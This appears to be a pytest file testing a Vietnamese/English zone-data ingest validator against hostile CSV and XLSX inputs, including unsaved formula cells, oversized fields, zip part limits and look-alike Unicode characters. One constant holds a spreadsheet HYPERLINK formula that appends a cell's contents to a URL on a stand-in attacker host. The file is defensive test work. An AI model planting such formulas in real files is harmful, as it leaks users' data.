"""What the second hostile-input probe of issue #21 found (/tmp/probe/hostile.md, the rows
that "did not hold"), each now said in words, in Vietnamese and English:

1. an XLSX cell holding a formula with no saved value (a file written by a program, never
   opened in a spreadsheet) is refused naming the cell, not stored as blank;
2. a CSV cell over Python's csv field limit (131,072 characters) is read like any other
   cell, not called "badly quoted";
3. an XLSX with more than 10,000 parts names that limit;
4. a no-break or other Unicode space inside a code, and a Cyrillic or Greek letter that
   looks Latin in a code or level, is named by position, code point and name.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest

from data.ingest import decode
from data.ingest.zone_file import validate_bytes
from tests.support.ingest_files import (
    CANONICAL,
    POLICY,
    SMALL_AREAS,
    TODAY,
    row,
    zone_csv,
    zone_xlsx,
)
from zones.cells import odd_characters

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _judge(raw: bytes):
    return validate_bytes(raw, "f", SMALL_AREAS, TODAY, POLICY)


def _formula_xlsx(rows, cached: dict[str, str] | None = None, header=CANONICAL) -> bytes:
    """A zone XLSX where every value starting with `=` is a formula cell, as openpyxl
    writes one (`<f>` and an empty `<v>`: no saved value); `cached` gives cells a saved
    value as Excel or LibreOffice writes it (cell reference → the `<v>` text; a value in
    double quotes is a text result, `t="str"`)."""
    import openpyxl

    book = openpyxl.Workbook()
    for values in [header, *rows]:
        book.active.append(values)
    buf = io.BytesIO()
    book.save(buf)
    return _rewrite_sheet(buf.getvalue(), lambda xml: _cache(xml, cached or {}))


def _cache(xml: str, cached: dict[str, str]) -> str:
    for ref, value in cached.items():
        cell = re.search(rf'<c r="{ref}"><f>(.*?)</f><v></v></c>', xml)
        kind = ' t="str"' if value.startswith('"') else ""
        saved = f'<c r="{ref}"{kind}><f>{cell.group(1)}</f><v>{value.strip(chr(34))}</v></c>'
        xml = xml.replace(cell.group(0), saved)
    return xml


def _rewrite_sheet(raw: bytes, edit) -> bytes:
    """The workbook with its first sheet's XML passed through `edit`."""
    src, out = zipfile.ZipFile(io.BytesIO(raw)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = edit(data.decode()).encode()
            dst.writestr(info, data)
    return out.getvalue()


# ---- 1. formula cells with no saved value ----------------------------------------------


def test_a_formula_with_no_saved_value_is_refused_naming_the_cell():
    raw = _formula_xlsx([row(cases="=1+1"), row(block="TDP02", note=HYPERLINK)])
    report = _judge(raw)
    assert not report.accepted and report.rows is None
    assert [(p.row, p.column) for p in report.errors] == [(2, "new_cases"), (3, "note")]
    first, second = report.errors
    assert first.value == "=1+1" and "E2" in first.reason and "G3" in second.reason
    assert "formula with no saved value" in first.reason, first.reason
    assert "LibreOffice" in first.reason and "LibreOffice" in first.reason_vi
    assert "công thức" in first.reason_vi, first.reason_vi


def test_a_formula_cell_is_refused_even_when_its_row_is_otherwise_blank():
    raw = _formula_xlsx([row(), ["=A2", None, None, None, None, None, None]])
    report = _judge(raw)
    assert [(p.row, p.column, p.value) for p in report.errors] == [(3, "date", "=A2")]


def test_a_formula_with_a_saved_value_reads_as_that_value():
    raw = _formula_xlsx([row(cases="=1+1", note=HYPERLINK), row(block="TDP02", note="=\"\"")],
                        cached={"E2": "2", "G2": '"click"', "G3": '""'})
    report = _judge(raw)
    assert report.accepted, [str(p) for p in report.errors]
    rows = report.rows.sort_values("block_code")
    assert rows["new_cases"].tolist() == [2, 0] and rows["note"].tolist()[0] == "click"
    assert rows["note"].isna().tolist() == [False, True]  # a saved empty text is blank


def test_a_formula_in_an_ignored_column_is_ignored_with_it():
    report = _judge(_formula_xlsx([[*row(), "=1+1"]], header=[*CANONICAL, "extra"]))
    assert report.accepted, [str(p) for p in report.errors]
    assert [p.key for p in report.warnings] == ["ingest.unknown_column"]


# ---- 2. a CSV cell longer than Python's csv field limit ---------------------------------


@pytest.mark.parametrize("quoted", [False, True])
def test_a_cell_over_the_csv_field_limit_is_read(quoted):
    note = "x" * 200_000
    text = zone_csv([row(note="NOTE")]).decode().replace(
        "NOTE", f'"{note}"' if quoted else note)
    report = _judge(text.encode())
    assert report.accepted, [str(p) for p in report.errors] + [str(p) for p in
                                                               report.warnings]
    assert report.rows["note"].tolist() == [note] and not report.warnings


def test_a_quote_never_closed_is_one_problem_not_also_no_rows():
    report = _judge(zone_csv([row()]) + b'19/09/2021,90001,TDP02,xanh,0,5,"never closed\n')
    assert [(p.row, p.key) for p in report.errors] == [(3, "ingest.bad_quoting")]
    report = _judge(b'date,ward_code,level\n"19/09/2021,90001,xanh\n')
    assert [(p.row, p.key) for p in report.errors] == [(2, "ingest.bad_quoting")]
    assert report.warnings == []


# ---- 3. an XLSX with too many parts ------------------------------------------------------


def test_too_many_parts_names_the_limit():
    src, out = zipfile.ZipFile(io.BytesIO(zone_xlsx([row()]))), io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        for i in range(decode.MAX_PARTS + 1):
            dst.writestr(f"extra/{i}.bin", b"")
    report = _judge(out.getvalue())
    [err] = report.errors
    assert err.row is None and "10000" in err.reason and "10000" in err.reason_vi, err.reason
    assert "parts" in err.reason and "not an XLSX" not in err.reason


# ---- 4. Unicode spaces and non-Latin look-alike letters --------------------------------


@pytest.mark.parametrize(("cell", "column", "named"), [
    ({"ward": "900\u00a001"}, "ward_code", "4: U+00A0 NO-BREAK SPACE"),
    ({"ward": "900\u202f01"}, "ward_code", "4: U+202F NARROW NO-BREAK SPACE"),
    ({"block": "TDP\u300001"}, "block_code", "4: U+3000 IDEOGRAPHIC SPACE"),
    ({"level": "\u0445anh"}, "level", "1: U+0445 CYRILLIC SMALL LETTER HA"),
    ({"level": "d\u0430 cam"}, "level", "2: U+0430 CYRILLIC SMALL LETTER A"),
    ({"block": "TDP0\u03bf"}, "block_code", "5: U+03BF GREEK SMALL LETTER OMICRON"),
    ({"block": "\u04101"}, "block_code", "1: U+0410 CYRILLIC CAPITAL LETTER A"),
])
def test_spaces_and_look_alike_letters_are_named(cell, column, named):
    report = _judge(zone_csv([row(**cell)]))
    [p] = report.errors
    assert (p.row, p.column, p.value) == (2, column, next(iter(cell.values())))
    assert named in p.message("en") and named in p.message("vi"), p.message("en")
    assert "unknown" not in p.message("en")


@pytest.mark.parametrize("level", ["đỏ", "phong tỏa", "Phong Tỏa", "da cam", "ĐỎ", "xanh"])
def test_vietnamese_letters_and_plain_spaces_stay_valid(level):
    assert odd_characters(level) is None
    assert _judge(zone_csv([row(level=level)])).accepted


def test_a_level_with_a_no_break_space_between_its_words_is_still_that_level():
    """A level is read in any spelling (separators alike), so phong tỏa with U+00A0
    between its words, pasted from a web page or Word, is phong tỏa as before; in a code
    the same space is named."""
    report = _judge(zone_csv([row(level="phong\u00a0tỏa")]))
    assert report.accepted and report.rows["level"].tolist() == ["phong_toa"]
    assert odd_characters("phong\u00a0tỏa") is not None


def test_a_space_around_a_value_is_trimmed_not_named():
    assert odd_characters("\u00a090001\u00a0") is None
    assert _judge(zone_csv([row(ward="\u00a090001\u00a0")])).accepted


def test_a_note_may_still_hold_any_character():
    assert _judge(zone_csv([row(note="х\u00a0ω 東京")])).accepted


def test_no_vietnamese_letter_is_odd():
    """Every letter of Vietnamese, with each tone mark, upper and lower case, is Latin."""
    import unicodedata

    tones = ["", "\u0300", "\u0301", "\u0309", "\u0303", "\u0323"]
    vowels = "aăâeêioôơuưy"
    letters = [unicodedata.normalize("NFC", v + t) for v in vowels for t in tones] + ["đ"]
    text = " ".join(letters + [c.upper() for c in letters])
    assert len(set(text)) == 2 * (12 * 6 + 1) + 1  # all precomposed, and the space
    assert odd_characters(text) is None
